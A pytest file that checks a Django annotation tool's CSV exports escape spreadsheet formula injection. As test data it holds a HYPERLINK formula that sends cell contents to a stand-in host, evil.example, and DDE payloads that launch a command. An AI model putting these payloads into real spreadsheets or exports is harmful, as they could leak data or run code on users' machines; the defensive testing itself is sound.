"""CSV/TSV exports never hand a spreadsheet a formula: hostile text gets OWASP's leading quote."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from rest_framework.test import APIClient

from analysis.models import AnalysisRun
from annotation.models import Annotation, WorkerProfile
from annotation.services import annotation_submit, assignment_next
from annotation.spreadsheet import safe_cell
from task_types.pairwise.tests.factories import answer, pair_payload
from tests.factories import ItemFactory, ProjectFactory, UserFactory

pytestmark = pytest.mark.django_db
HOSTILE_REASON = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full reason")'


@pytest.mark.parametrize("text", ["=1+1", "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "-cmd|' /C calc'!A0"])
def test_formula_starts_get_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-0.5, 3, 2.25, "-0.5", "+12", "-1e5", "plain text", "a=b", "", None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


@pytest.fixture
def hostile_project():
    project = ProjectFactory(slug="hostile", redundancy=1)
    ItemFactory(project=project, external_id="@item", payload=pair_payload(1, topic="-topic"))
    worker = UserFactory(username="+worker")
    WorkerProfile.objects.filter(user=worker).update(source="mturk", external_id="-W1")
    assignment = assignment_next(project=project, worker=worker).assignment
    annotation_submit(assignment=assignment, worker=worker, data=answer(reason=HOSTILE_REASON),
                      client={"elapsed_ms": 2500})
    return project


def check_csv(text: str):
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["reason"] == "'" + HOSTILE_REASON
    assert (row["item"], row["pair_id"], row["topic"]) == ("'@item", "'@item", "'-topic")
    assert (row["worker"], row["worker_external_id"]) == ("'+worker", "'-W1")
    assert float(row["seconds"]) == Annotation.objects.get().seconds  # a number stays a number
    assert row["label"] == "a1"


def test_browser_export(client, hostile_project):
    client.force_login(UserFactory(role="researcher"))
    response = client.get(reverse("export", args=[hostile_project.slug, "csv"]))
    check_csv(b"".join(response.streaming_content).decode())


def test_api_export(hostile_project):
    api = APIClient()
    api.force_authenticate(UserFactory(role="researcher"))
    response = api.get(f"/api/projects/{hostile_project.slug}/annotations/", {"fmt": "csv"})
    check_csv(b"".join(response.streaming_content).decode())


def test_json_export_keeps_the_text_exact(hostile_project):
    api = APIClient()
    api.force_authenticate(UserFactory(role="researcher"))
    response = api.get(f"/api/projects/{hostile_project.slug}/annotations/", {"fmt": "jsonl"})
    assert HOSTILE_REASON in b"".join(response.streaming_content).decode().replace('\\"', '"')


def test_command_export(hostile_project, tmp_path):
    out = tmp_path / "annotations.csv"
    call_command("export_annotations", hostile_project.slug, "--format", "csv", "--out", str(out))
    check_csv(out.read_text(encoding="utf-8"))


def test_worker_table_csv(client):
    project = ProjectFactory()
    run = AnalysisRun.objects.create(project=project, kind="agreement", status="done", result={"workers": [
        {"rank": 1, "worker": "=cmd|' /C calc'!A0", "annotations": 12, "competence": -0.25,
         "agreement_with_mace": 0.5, "median_seconds": 7.5, "flags": ["fast"]},
        {"rank": 2, "worker": "@alice", "annotations": 3, "competence": 0.9,
         "agreement_with_mace": 1.0, "median_seconds": 9.0, "flags": []},
    ]})
    client.force_login(UserFactory(role="researcher"))
    raw = client.get(reverse("analysis-workers-csv", args=[project.slug, run.pk])).content.decode()
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert [r["worker"] for r in rows] == ["'=cmd|' /C calc'!A0", "'@alice"]
    assert rows[0]["competence"] == "-0.25" and rows[0]["annotations"] == "12"  # numbers untouched
